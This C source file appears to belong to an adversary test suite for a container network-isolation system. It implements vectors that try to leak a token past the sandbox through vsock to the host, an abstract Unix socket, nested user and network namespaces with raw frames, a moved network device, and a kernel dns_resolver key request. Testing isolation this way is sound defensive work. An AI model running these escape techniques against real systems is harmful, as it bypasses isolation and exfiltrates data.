/* SPDX-License-Identifier: Apache-2.0 */
/* Ways that are not the network's, and namespaces in the namespace. */
#include "../adversary.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <linux/vm_sockets.h>
#include <net/ethernet.h>
#include <poll.h>
#include <sched.h>
#include <stdio.h>
#include <stddef.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

/* The machine that this one runs in, and this one itself. */
VECTOR(vsock)
{
	static const unsigned peers[] = {VMADDR_CID_HOST, VMADDR_CID_LOCAL};
	int result = 0;

	for (size_t i = 0; i < ARRAY_SIZE(peers); i++) {
		struct sockaddr_vm to = {.svm_family = AF_VSOCK,
					 .svm_port = PORT,
					 .svm_cid = peers[i]};
		int fd = socket(AF_VSOCK, SOCK_STREAM, 0);
		struct timeval limit = {.tv_usec = 1000 * PATIENCE_MS};

		if (fd < 0)
			return -errno;
		setsockopt(fd, AF_VSOCK, SO_VM_SOCKETS_CONNECT_TIMEOUT, &limit, sizeof(limit));
		result = connect(fd, (struct sockaddr *)&to, sizeof(to)) ? -errno : 0;
		result = result ?: sent(send(fd, attempt->token, strlen(attempt->token), 0));
	}
	return result;
}

/* A name that the host listens at; names are the network namespace's. */
VECTOR(unix_abstract)
{
	struct sockaddr_un to = {.sun_family = AF_UNIX, .sun_path = "\0phasegate-adversary"};
	int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
	socklen_t size = offsetof(struct sockaddr_un, sun_path) + 20;

	return fd < 0 ? -errno
		      : sent(sendto(fd, attempt->token, strlen(attempt->token), 0,
				    (struct sockaddr *)&to, size));
}

static int in_namespace(const struct attempt *attempt, const char *device)
{
	bool v6 = is_v6(&attempt->target);
	uint8_t frame[ROOM];
	size_t size = put_ethernet(frame, attempt, v6 ? ETHERTYPE_IPV6 : ETHERTYPE_IP);
	int result;

	size += put_udp(frame + size, &attempt->own, &attempt->target, PORT, attempt->token);
	result =
		shell("ip link set %s up; ip addr add %s/%d dev %s; ip %s route add default dev %s",
		      device, text_of(&attempt->own), v6 ? 128 : 32, device, v6 ? "-6" : "-4",
		      device);
	result = result ?: wait_up(device);
	result = result
			 ?: send_token(open_socket(&attempt->target, SOCK_DGRAM, 0), attempt,
				       &attempt->target);
	return send_frame(device, frame, size) ?: result;
}

/* Root of it, or a program that is executed has no privileges. */
static void become_root(unsigned user)
{
	char map[32];
	int fd = open("/proc/self/setgroups", O_WRONLY);

	if (write(fd, "deny", 4) != 4)
		return;
	close(fd);
	snprintf(map, sizeof(map), "0 %u 1", user);
	fd = open("/proc/self/uid_map", O_WRONLY);
	if (write(fd, map, strlen(map)) < 0)
		return;
	close(fd);
}

/* A network namespace of its own, with a device that a command of this one gives to it: all
 * privileges inside. */
static int nested(const struct attempt *attempt, const char *give, const char *more,
		  const char *device)
{
	int ready[2], go[2], child, result = -EIO;
	unsigned user = getuid();
	char byte = 0;

	if (pipe(ready) || pipe(go) || (child = fork()) < 0)
		return -errno;
	if (child == 0) {
		if (unshare(CLONE_NEWUSER | CLONE_NEWNET))
			byte = (char)errno;
		become_root(user);
		if (write(ready[1], &byte, 1) != 1 || read(go[0], &byte, 1) != 1)
			_exit(1);
		_exit(-in_namespace(attempt, device) & 0xff);
	}
	if (read(ready[0], &byte, 1) == 1)
		result = -byte;
	if (!result)
		result = shell("ip link %s netns %d %s", give, child, more);
	if (!result && write(go[1], "", 1) == 1) {
		waitpid(child, &ready[0], 0);
		result = -WEXITSTATUS(ready[0]);
	}
	return result;
}

VECTOR(nested_namespace)
{
	return nested(attempt, "add pgx link " DEVICE, "type macvlan mode bridge", "pgx");
}

/* The container's own device: it is gone afterwards, and so is the container's network. */
VECTOR(moved_device)
{
	return nested(attempt, "set " DEVICE, "", DEVICE);
}

/* The kernel asks a program of the host, outside of all containers, to resolve a name. */
VECTOR(request_key)
{
	char name[64];
	long result;

	snprintf(name, sizeof(name), "%stest", attempt->token);
	result = syscall(SYS_request_key, "dns_resolver", name, "", KEY_SPEC_SESSION_KEYRING);
	return result < 0 ? -errno : 0;
}
